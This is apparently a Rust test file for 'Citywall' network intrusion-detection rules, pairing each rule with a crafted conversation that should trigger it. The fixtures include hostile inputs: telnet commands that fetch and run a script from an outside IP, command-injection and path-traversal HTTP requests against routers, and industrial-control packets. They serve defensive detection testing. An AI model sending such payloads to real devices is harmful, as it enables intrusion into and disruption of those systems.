//! The rules that Citywall brings along: all load, each is hit, and ordinary traffic hits none.

use std::collections::BTreeSet;

use crate::bench::{Bench, load};

const RULES: &str = include_str!("../../../citywall/rules/citywall.rules");

/// A conversation: carrier, ports, and what is said (`>` client, `<` server).
struct Talk {
    udp: bool,
    port: u16,
    said: Vec<(char, Vec<u8>)>,
}

fn tcp(port: u16, said: &[(char, &[u8])]) -> Talk {
    let said = said.iter().map(|(who, what)| (*who, what.to_vec())).collect();
    Talk {
        udp: false,
        port,
        said,
    }
}

fn udp(port: u16, what: &[u8]) -> Talk {
    Talk {
        udp: true,
        port,
        said: vec![('>', what.to_vec())],
    }
}

fn http(request: &str) -> Talk {
    let said = vec![
        ('>', request.replace('\n', "\r\n").into_bytes()),
        ('<', b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n".to_vec()),
    ];
    Talk {
        udp: false,
        port: 80,
        said,
    }
}

fn play(talk: &Talk) -> Vec<u32> {
    let mut bench = if talk.udp {
        Bench::udp(RULES, 40_000, talk.port)
    } else {
        Bench::tcp(RULES, 40_000, talk.port)
    };
    for (who, what) in &talk.said {
        match who {
            '>' => bench.client(what),
            _ => bench.server(what),
        };
    }
    bench.end();
    let mut sids: Vec<u32> = bench
        .text
        .lines()
        .filter_map(|line| line.get(2..)?.parse().ok())
        .collect();
    sids.dedup();
    sids
}

fn modbus(pdu: &[u8]) -> Talk {
    let mut adu = vec![0, 1, 0, 0, 0, pdu.len() as u8 + 1, 1];
    adu.extend_from_slice(pdu);
    tcp(502, &[('>', &adu), ('<', &adu)])
}

/// SNMPv2c set of one object, RFC 3416.
fn snmp_set(community: &str) -> Talk {
    let binding = b"\x30\x0f\x06\x0a\x2b\x06\x01\x02\x01\x02\x02\x01\x07\x02\x02\x01\x02";
    let mut pdu = b"\x02\x01\x01\x02\x01\x00\x02\x01\x00".to_vec();
    pdu.extend_from_slice(&[0x30, binding.len() as u8]);
    pdu.extend_from_slice(binding);
    let mut message = b"\x02\x01\x01\x04".to_vec();
    message.push(community.len() as u8);
    message.extend_from_slice(community.as_bytes());
    message.extend_from_slice(&[0xa3, pdu.len() as u8]);
    message.extend_from_slice(&pdu);
    let mut whole = vec![0x30, message.len() as u8];
    whole.extend_from_slice(&message);
    udp(161, &whole)
}

/// A hello of SSL 3.0 (RFC 6101), client's or server's.
fn ssl3_hello(kind: u8) -> Vec<u8> {
    let mut body = vec![3, 0];
    body.extend_from_slice(&[7; 32]);
    body.push(0);
    body.extend_from_slice(if kind == 1 {
        b"\x00\x02\x00\x05\x01\x00"
    } else {
        b"\x00\x05\x00"
    });
    let mut record = vec![22, 3, 0, 0, body.len() as u8 + 4, kind, 0, 0, body.len() as u8];
    record.extend_from_slice(&body);
    record
}

fn talks() -> Vec<(u32, Talk)> {
    let get = |target: &str| http(&format!("GET {target} HTTP/1.1\nHost: 10.0.0.2\n\n"));
    let axfr = b"\x12\x34\x00\x00\x00\x01\x00\x00\x00\x00\x00\x00\x04city\x07example\x00\x00\xfc\x00\x01";
    let axfr_tcp = [&[0, axfr.len() as u8][..], axfr].concat();
    vec![
        (9_000_001, tcp(23, &[('<', b"login: "), ('>', b"/bin/busy"), ('>', b"box ECCHI\r\n")])),
        (9_000_002, tcp(23, &[('>', b"cd /tmp; wget -q http://203.0.113.9/a.sh\r\n")])),
        (9_000_003, tcp(2323, &[('>', b"tftp -l a -r a -g 203.0.113.9\r\n")])),
        (9_000_004, tcp(23, &[('>', b"chmod 777 a; ./a\r\n")])),
        (9_000_005, udp(69, b"\x00\x01lamp-2.1.BIN\x00octet\x00")),
        (9_000_006, udp(69, b"\x00\x02lamp-2.1.img\x00octet\x00")),
        (9_000_007, http("GET /x/arm7.sh HTTP/1.1\nHost: 203.0.113.9\nUser-Agent: Wget/1.20\n\n")),
        (9_000_008, get("/cgi-bin/ping.cgi?host=1;wget%20http://203.0.113.9/a")),
        (9_000_009, get("/view?file=../../../etc/passwd")),
        (9_000_010, http("POST /GponForm/diag_Form?images/ HTTP/1.1\nHost: a\nContent-Length: 30\n\nXWebPageName=diag&dest_host=`x`")),
        (9_000_011, http("POST /HNAP1/ HTTP/1.1\nHost: a\nSOAPAction: http://purenetworks.com/HNAP1/`reboot`\nContent-Length: 0\n\n")),
        (9_000_012, get("/shell?cd+/tmp;rm+-rf+*")),
        (9_000_013, http("POST /picsdesc.xml HTTP/1.1\nHost: a\nContent-Length: 26\n\n<NewInternalClient>`cd /`<")),
        (9_000_014, http("POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\nHost: a\nContent-Length: 0\n\n")),
        (9_000_015, get("/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=ls")),
        (9_000_016, get("/Security/users?auth=YWRtaW46MTEK")),
        (9_000_017, tcp(8_443, &[('<', b"SSH-2.0-x\r\n"), ('>', b"SSH-2.0-y\r\n")])),
        (9_000_018, tcp(443, &[('>', &ssl3_hello(1)), ('<', &ssl3_hello(2))])),
        (9_000_019, tcp(53, &[('>', &axfr_tcp)])),
        (9_000_020, udp(123, b"\x17\x00\x03\x2a\x00\x00\x00\x00")),
        (9_000_021, tcp(1_883, &[('>', b"\x10\x0d\x00\x04MQTT\x04\x02\x00\x3c\x00\x01a"), ('<', b"\x20\x02\x00\x00"), ('>', b"\x82\x06\x00\x01\x00\x01#\x00"), ('<', b"\x90\x03\x00\x01\x00")])),
        (9_000_022, snmp_set("private")),
        (9_000_023, snmp_set("public")),
        (9_000_024, modbus(&[8, 0, 1, 0, 0])),
        (9_000_025, modbus(&[8, 0, 4, 0, 0])),
        (9_000_026, modbus(&[90, 0, 2])),
        (9_000_027, tcp(20_000, &[('>', b"\x05\x64\x08\xc4\x01\x00\x02\x00\x11\x22\xc0\xc0\x0d\x33\x44")])),
        (9_000_028, tcp(102, &[('>', b"\x03\x00\x00\x21\x02\xf0\x80\x32\x01\x00\x00\x00\x01\x00\x10\x00\x00\x29\x00\x00\x00\x00\x00\x09P_PROGRAM")])),
        (9_000_029, udp(47_808, b"\x81\x0a\x00\x0e\x01\x04\x00\x05\x01\x14\x09\x00\x1d\x00")),
    ]
}

#[test]
fn each_rule_is_hit_by_its_conversation_alone() {
    for (sid, talk) in talks() {
        assert_eq!(play(&talk), [sid], "conversation for {sid}");
    }
}

#[test]
fn no_rule_is_without_a_conversation() {
    let loaded: BTreeSet<u32> = load(RULES).rules().iter().map(|r| r.sid).collect();
    let played: BTreeSet<u32> = talks().iter().map(|(sid, _)| *sid).collect();
    assert_eq!(loaded, played);
}

#[test]
fn ordinary_traffic_hits_none() {
    for talk in [
        http("GET /index.html HTTP/1.1\nHost: 10.0.0.2\nUser-Agent: Mozilla/5.0\n\n"),
        http("GET /cgi-bin/status.cgi?page=1;lang=en HTTP/1.1\nHost: 10.0.0.2\n\n"),
        http("POST /HNAP1/ HTTP/1.1\nHost: a\nSOAPAction: \"http://purenetworks.com/HNAP1/Login\"\nContent-Length: 0\n\n"),
        tcp(23, &[('<', b"login: "), ('>', b"admin\r\n"), ('>', b"show version\r\n")]),
        tcp(22, &[('<', b"SSH-2.0-x\r\n"), ('>', b"SSH-2.0-y\r\n")]),
        udp(69, b"\x00\x01phone.cfg\x00octet\x00"),
        udp(123, b"\x23\x00\x06\xec\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\xe0\x00\x00\x00\x00\x00\x00\x00"),
        modbus(&[3, 0, 1, 0, 2]),
        snmp_set("s3cret"),
    ] {
        assert_eq!(play(&talk), []);
    }
}

#[test]
fn they_leave_other_conversations_alone() {
    let book = load(RULES);
    assert!(book.size().without_pattern < 12, "{:?}", book.size());
    let mut bench = Bench::tcp(RULES, 40_000, 8_000);
    let mut view = citywall_rules::Conversation {
        flow: bench.flow,
        direction: citywall_flow::Direction::ToResponder,
        rules: &mut bench.rules,
    };
    assert!(!bench.book.wants_stream(&mut view));
}
